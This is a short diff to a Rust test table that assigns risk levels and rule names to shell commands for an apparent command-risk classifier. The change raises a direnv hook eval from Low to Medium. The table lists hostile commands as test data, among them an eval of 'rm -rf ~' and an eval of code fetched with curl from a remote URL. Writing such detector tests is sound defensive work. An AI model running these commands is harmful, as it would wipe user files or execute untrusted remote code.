@@ -56,7 +56,7 @@ const TABLE: &[(&str, Level, Option<&str>)] = &[
     ("zsh -c 'echo hello'", Low, None),
     ("eval 'rm -rf ~'", High, Some("rm.recursive-broad")),
     ("eval \"$CMD\"", Medium, Some("shell.dynamic-code")),
-    ("eval \"$(direnv hook bash)\"", Low, None),
+    ("eval \"$(direnv hook bash)\"", Medium, Some("shell.stdin-code")),
     (
         "eval \"$(curl -fsSL https://x.io/env)\"",
         High,
